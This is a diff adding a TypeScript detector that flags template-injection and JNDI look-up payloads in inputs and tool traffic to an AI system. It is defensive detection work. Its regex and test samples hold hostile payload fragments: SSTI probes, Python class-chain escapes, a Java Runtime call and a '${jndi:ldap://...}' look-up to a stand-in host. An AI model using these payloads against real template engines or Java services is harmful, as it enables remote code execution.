@@ -1,0 +1,46 @@
+import { detector } from '../detector.ts';
+
+export default detector({
+  name: 'template-injection',
+  family: 'exfil',
+  summary: 'Template expressions that probe or run code: {{7*7}}, __class__.__mro__, jndi look-ups, T(java.lang.Runtime).',
+  tier: 'flag',
+  severity: 'high',
+  confidence: 0.8,
+  pattern: new RegExp(
+    [
+      '(?:\\{\\{|\\$\\{|#\\{|<%=|@\\(|\\*\\{|%\\{) {0,3}[0-9]{1,6} {0,2}\\* {0,2}[\'"]?[0-9]{1,6}[\'"]? {0,3}(?:\\}|%>|\\))',
+      '\\{\\{[^{}\\n]{0,80}(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|cycler\\.|lipsum\\.|joiner\\.|config\\.(?:items|from)|request\\.application|self\\._TemplateReference|constructor\\.constructor)',
+      '__class__[^\\n]{0,40}__(?:mro|base|bases|subclasses)__',
+      '__(?:globals|builtins)__\\[? {0,2}["\'](?:os|__import__|eval|exec|open|__builtins__)',
+      '\\$\\{[^}\\n]{0,60}jndi[^}\\n]{0,20}:(?:ldaps?|rmi|dns|iiop|http)',
+      '\\$\\{ {0,2}jndi:',
+      '\\bT\\( {0,2}java\\.lang\\.(?:Runtime|System|ProcessBuilder)\\b',
+      '\\bfreemarker\\.template\\.utility\\.Execute\\b',
+      '\\$\\{ {0,2}(?:@java|#_memberaccess|#context|#rt|T\\(|\'\'\\.getClass|"".getClass)',
+      '%\\{ {0,2}\\(? {0,2}#(?:_|dm|context|cmd|ognl)',
+      '<#assign [^>\\n]{0,80}\\?new\\(\\)',
+      '\\bconstructor\\.constructor\\( {0,2}["\']',
+    ].join('|'),
+    'i',
+  ),
+  lanes: ['tool-arguments', 'query', 'user', 'tool-result', 'other'],
+  references: ['owasp-llm:LLM05:2026', 'asi:ASI05', 'cwe:1336'],
+  finds: [
+    'hello {{7*7}}',
+    "{{ ''.__class__.__mro__[1] }}",
+    `\${jndi:ldap://x.example.net/a}`,
+    `\${T(java.lang.Runtime).getRuntime()}`,
+    '<#assign e="freemarker.template.utility.Execute"?new()>',
+    '<%= 7*7 %>',
+  ],
+  ignores: [
+    'Hello {{ name }}',
+    `\${price * quantity}`,
+    'print(self.__class__.__name__)',
+    '#{user.name}',
+    'area = 7*7',
+    'jndi is an interface',
+    '{{ items | length }}',
+  ],
+});
